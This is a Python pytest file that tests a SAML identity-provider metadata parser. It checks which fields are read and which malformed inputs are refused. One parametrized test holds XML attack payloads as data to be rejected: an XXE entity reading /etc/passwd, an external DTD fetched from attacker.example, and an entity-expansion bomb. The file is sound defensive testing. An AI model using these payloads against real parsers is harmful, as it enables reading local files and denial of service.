"""Metadata of SAML providers: what is read of it, and what is refused before it is read (CAP-H4, XXE)."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iamkit.errors import InputError
from iamkit.federation import saml_metadata

CERTIFICATE: Final = "TUlJQw" * 150


def document(
    *,
    entity: str = ' entityID="https://idp.example.org/"',
    key: str = "",
    descriptor: str = "",
    extra: str = "",
) -> str:
    """A metadata document with parts that a test wants otherwise."""
    certificate = f"<ds:X509Data><ds:X509Certificate>\n {CERTIFICATE}\n</ds:X509Certificate></ds:X509Data>"
    keys = key or f"<KeyDescriptor use='signing'><ds:KeyInfo>{certificate}</ds:KeyInfo></KeyDescriptor>"
    return (
        '<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" '
        f'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"{entity}>{extra}'
        f"<IDPSSODescriptor{descriptor}>{keys}"
        '<SingleSignOnService Binding="post" Location="https://idp.example.org/sso"/>'
        f"</IDPSSODescriptor><!-- {'x' * 1000} --></EntityDescriptor>"
    )


def test_what_a_document_says_is_read() -> None:
    """Its name, where to sign in, the keys that it signs with, and the earliest end."""
    found = saml_metadata.read(
        '<?xml version="1.0" encoding="UTF-8"?>'
        + document(
            entity=' entityID="urn:idp" validUntil="2030-01-02T03:04:05Z"',
            descriptor=' validUntil="2029-01-02T03:04:05.5+01:00"',
        )
    )
    assert found.entity_id == "urn:idp"
    assert found.sign_in_urls == ("https://idp.example.org/sso",)
    assert found.certificates == (CERTIFICATE,)
    assert found.valid_until == datetime(2029, 1, 2, 2, 4, 5, 500000, tzinfo=UTC)
    assert saml_metadata.read(document()).valid_until is None


def test_a_key_for_encryption_signs_nothing() -> None:
    """Only signing keys, and keys for both, are the provider's voice."""
    certificate = f"<ds:X509Certificate>{CERTIFICATE}</ds:X509Certificate>"
    only = f"<KeyDescriptor use='encryption'>{certificate}</KeyDescriptor>"
    with pytest.raises(InputError, match="no certificate"):
        saml_metadata.read(document(key=only))
    both = saml_metadata.read(document(key=f"{only}<KeyDescriptor>{certificate}</KeyDescriptor>"))
    assert len(both.certificates) == 1


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + document(),
        '<!DOCTYPE a SYSTEM "https://attacker.example/x.dtd">' + document(),
        "<!DOCTYPE lolz ["
        + "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};">' for n in range(1, 30))
        + "]>"
        + document(),
        document(extra="&undefined;"),
        document(extra="<a>" * 100 + "</a>" * 100),
        document(extra="<a>"),
        document(entity=""),
        document(entity=' entityID=""'),
        document(entity=' entityID="x" validUntil="tomorrow"'),
        document(entity=' entityID="x" validUntil="2030-13-01T00:00:00Z"'),
        document(key="<KeyDescriptor/>"),
        document(key="<KeyDescriptor><ds:X509Certificate> </ds:X509Certificate></KeyDescriptor>"),
        document().replace("IDPSSODescriptor", "SPSSODescriptor"),
        document().replace("SAML:2.0:metadata", "SAML:1.1:metadata"),
        document().replace("EntityDescriptor", "EntitiesDescriptor"),
        document().replace("SingleSignOnService", "SingleLogoutService"),
        document(extra="\ud800"),
        document(extra="\x00"),
        "x" * 2000,
        "<" * 2000,
        "",
        "<a/>",
        " " * 10_000_001,
        document() + document(),
    ],
)
def test_what_is_no_metadata_is_refused(text: str) -> None:
    """A document type before all, whatever is in it; nothing of the document is quoted at length."""
    with pytest.raises(InputError) as caught:
        saml_metadata.read(text)
    assert len(caught.value.message) < 300


@given(st.text(alphabet=st.sampled_from("<>/&;!=\"' abxml:[]-?DOCTYPE"), min_size=1000, max_size=1100))
def test_no_text_does_anything_but_be_read_or_refused(text: str) -> None:
    """Whatever it holds."""
    with pytest.raises(InputError):
        saml_metadata.read(text)
